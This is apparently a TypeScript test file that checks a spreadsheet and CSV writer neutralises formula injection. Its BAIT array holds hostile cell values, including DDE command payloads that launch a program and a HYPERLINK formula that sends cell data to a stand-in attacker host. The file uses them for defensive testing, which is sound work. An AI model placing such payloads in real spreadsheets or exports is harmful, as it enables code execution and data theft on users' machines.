import assert from 'node:assert/strict'
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { buffer } from 'node:stream/consumers'
import { after, test } from 'node:test'
import { openSheet, writeCsv, writeSheet } from './index.ts'

const folder = mkdtempSync(join(tmpdir(), 'xinheng-formulas-'))
after(() => rmSync(folder, { recursive: true }))

const BAIT = ['=cmd|\'/C calc\'!A0', '+1+cmd|\' /C calc\'!A0', '-2+3+cmd', '@SUM(1+1)*cmd', '\t=1+1', '=HYPERLINK("https://evil.example?x="&A1,"x")', '=1+1', '  =1+1', '\r=1+1']

test('a text that a spreadsheet would run is a text in every workbook that is written, and the same when it is read again', async () => {
  const path = join(folder, 'out.xlsx')
  writeFileSync(path, await buffer(writeSheet([{ heading: '名称' }, { heading: '文号', kind: 'text' }], BAIT.map((one) => [one, one]), { sheetName: '=1+1' })))
  const read: unknown[] = []
  for await (const chunk of (await openSheet(path, { name: 'out.xlsx' })).rows) read.push(...chunk.slice(0).map(({ cells }) => cells))
  for (const row of read.slice(1) as unknown[][]) for (const cell of row) assert.equal(typeof cell, 'string', `a formula or an error came back: ${JSON.stringify(cell)}`)
  assert.equal(read.length, BAIT.length + 1)
})

test('no cell of a CSV file begins with what a spreadsheet would run', async () => {
  const text = (await buffer(writeCsv([{ heading: '名称' }], BAIT.map((one) => [one])))).toString().replace('\ufeff', '')
  for (const line of text.split('\r\n').slice(1).filter((one) => one !== '')) assert.match(line.replace(/^"/, ''), /^(?![=+\-@\t\r\n])/, line)
})
